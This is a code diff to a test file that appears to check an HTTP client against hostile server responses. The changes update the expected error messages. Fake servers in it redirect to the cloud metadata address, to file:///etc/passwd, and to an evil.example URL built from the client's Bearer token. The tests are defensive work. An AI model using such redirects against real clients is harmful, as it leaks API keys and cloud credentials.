@@ -163,16 +163,16 @@ async def stops_in_the_middle(reader: Reader, writer: Writer) -> None:
 
 # Redirects.
 METADATA = "http://169.254.169.254/latest/meta-data/?token=secret"
-says("redirect_to_metadata", r"redirects to 169\.254\.169\.254, which", head("302 Found", f"Location: {METADATA}", "Content-Length: 0"))
-says("redirect_for_ever", "redirects to localhost, which", head("307 Temporary Redirect", "Location: /v1/models?again=1"))
+says("redirect_to_metadata", r"redirects to 169\.254\.169\.254/\S+, which", head("302 Found", f"Location: {METADATA}", "Content-Length: 0"))
+says("redirect_for_ever", "redirects to localhost/v1/models, which", head("307 Temporary Redirect", "Location: /v1/models?again=1"))
 says("redirect_to_a_file", "redirects to another place", head("301 Moved", "Location: file:///etc/passwd"))
 says("redirect_nowhere", "redirects to another place", head("308 Permanent Redirect"))
 says("redirect_to_garbage", "redirects to another place", head("302 Found", "Location: https://[::1"))
 
 
-@hostile(r"redirects to (\*{4}\.evil\.example|another place), which")
+@hostile(r"redirects to (\*{4}\.evil\.example/\*{4}|another place), which")
 async def redirect_with_what_we_sent(reader: Reader, writer: Writer) -> None:
-    """Puts our key into the host of the target, hoping for a log."""
+    """Puts our key into the host, the path and the query of the target, hoping for a log."""
     sent = (await question(reader)).decode().partition("Bearer ")[2].partition("\r\n")[0]
     writer.write(head("302 Found", f"Location: https://{sent}.evil.example/{sent}?{sent}", "Content-Length: 0"))
     await writer.drain()
